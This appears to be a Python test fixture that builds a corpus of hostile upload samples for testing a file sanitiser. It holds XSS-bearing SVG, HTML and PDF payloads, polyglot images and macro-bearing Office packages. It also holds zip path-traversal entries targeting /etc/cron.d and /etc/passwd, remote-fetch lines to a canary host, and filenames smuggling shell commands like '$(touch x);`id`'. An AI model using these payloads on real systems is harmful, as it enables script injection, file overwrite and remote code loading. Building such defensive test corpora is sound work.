"""Sixty files of people who mean harm, made here: nothing of theirs lies in the house (F1)."""

import io
import zipfile
from collections.abc import Iterator

from tests.mails import PDF, PNG
from tests.vectors import CANARY, RUN

SCRIPT = f"<script>{RUN}</script>"
JS = f"{RUN};".encode()
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}">{SCRIPT}</svg>'.encode()
HTML = f"<!doctype html><title>x</title>{SCRIPT}<img src=//{CANARY}/i.png>".encode()
XHTML = f'<html xmlns="http://www.w3.org/1999/xhtml"><body>{SCRIPT}</body></html>'.encode()
XSLT = (
    '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?><r>'
    f'<x:script xmlns:x="http://www.w3.org/1999/xhtml">{RUN}</x:script></r>'
).encode()
GIF = b"GIF89a/*" + bytes(20) + b"*/=1;" + JS
JPEG = b"\xff\xd8\xff\xe1\x00\x60Exif\x00\x00" + HTML + b"\xff\xd9"
PDF_JS = PDF.replace(b"<<>>", f"<</OpenAction<</S/JavaScript/JS({RUN})>>>>".encode())
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
CSS = f'@import "//{CANARY}/css";body{{background:url(//{CANARY}/bg.png)}}'.encode()
WORKER = f"self.onfetch=e=>fetch('//{CANARY}/worker');{RUN}".encode()
MHTML = b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n--x\r\n"
MHTML += b"Content-Type: text/html\r\n\r\n" + HTML + b"\r\n--x--\r\n"


def packed(*names: str) -> bytes:
    """A package, as office programs write them, with a macro or a way out of its folder."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as package:
        for name in names:
            package.writestr(name, f'<x Target="http://{CANARY}/t.dotm"/>')
    return target.getvalue()


DOCM = packed("[Content_Types].xml", "word/document.xml", "word/vbaProject.bin")
SLIP = packed("../../../../etc/cron.d/x", "/etc/passwd", "C:\\x.exe")

# By what they are; under a name that says so.
HONEST = {
    "dibujo.svg": SVG,
    "dibujo.svgz": b"\x1f\x8b\x08" + SVG,
    "pagina.html": HTML,
    "pagina.htm": b"\xef\xbb\xbf" + HTML,
    "pagina.xhtml": XHTML,
    "pagina.shtml": b'<!--#exec cmd="id" -->' + HTML,
    "pagina.mht": MHTML,
    "utf7.html": b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "utf16.html": HTML.decode().encode("utf-16"),
    "datos.xml": XSLT,
    "datos.xsl": XSLT,
    "datos.rss": XSLT,
    "guion.js": JS,
    "guion.mjs": b"import 'https://" + CANARY.encode() + b"/m.js';" + JS,
    "worker.js": WORKER,
    "estilo.css": CSS,
    "manifest.webmanifest": b'{"start_url":"//' + CANARY.encode() + b'/"}',
    "datos.json": b'{"a":"' + SCRIPT.encode() + b'"}',
    "documento.pdf": PDF_JS,
    "macro.docm": DOCM,
    "macro.docx": DOCM,
    "hoja.xlsm": packed("[Content_Types].xml", "xl/workbook.xml", "xl/vbaProject.bin"),
    "salida.zip": SLIP,
    "virus.com": EICAR,
    "correo.eml": MHTML,
    "acceso.lnk": b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(60),
    "acceso.url": f"[InternetShortcut]\r\nURL=javascript:{RUN}\r\n".encode(),
    "app.hta": HTML,
    "programa.exe": b"MZ" + bytes(60),
    "programa": b"\x7fELF" + bytes(60),
    "orden.sh": b"#!/bin/sh\nid\n",
    "orden.bat": b"@echo off\r\ncalc\r\n",
    "pagina.php": b"<?php phpinfo();?>" + HTML,
    "pagina.pht": b"<?php phpinfo();?>" + HTML,
    "pagina.jsp": b"<% %>" + HTML,
    ".htaccess": b"AddType text/html .png\n",
    "pelicula.swf": b"FWS\x09" + bytes(60),
    "modulo.wasm": b"\x00asm\x01\x00\x00\x00",
}
# By a name that deceives, or that is to be more than a name.
DECEIVING = {
    "foto.gif": GIF,
    "foto.jpg": JPEG,
    "foto.png": PNG + HTML,
    "factura.pdf": PDF + HTML,
    "factura.pdf.html": HTML,
    "factura.html.pdf": HTML,
    "factura.php.png": PNG,
    "factura\u202efdp.exe": b"MZ",
    "../../../etc/passwd": HTML,
    "..\\..\\windows\\win.ini": HTML,
    "%2e%2e%2fpagina.html": HTML,
    "\u2215etc\u2215passwd": HTML,
    "nulo\x00.html": HTML,
    "x" * 300 + ".html": HTML,
    "CON": HTML,
    "aux.html": HTML,
    "a.txt:oculto.exe": b"MZ",
    "punto.html.": HTML,
    "uno\r\nContent-Type: text/html": HTML,
    '"><script>alert(1)</script>.svg': SVG,
    "<img src=x onerror=alert(1)>.png": PNG,
    "$(touch x);`id`|x.html": HTML,
}
HOSTILE = HONEST | DECEIVING


def by_tens() -> Iterator[dict[str, bytes]]:
    names = list(HOSTILE)
    for start in range(0, len(names), 10):
        yield {name: HOSTILE[name] for name in names[start : start + 10]}
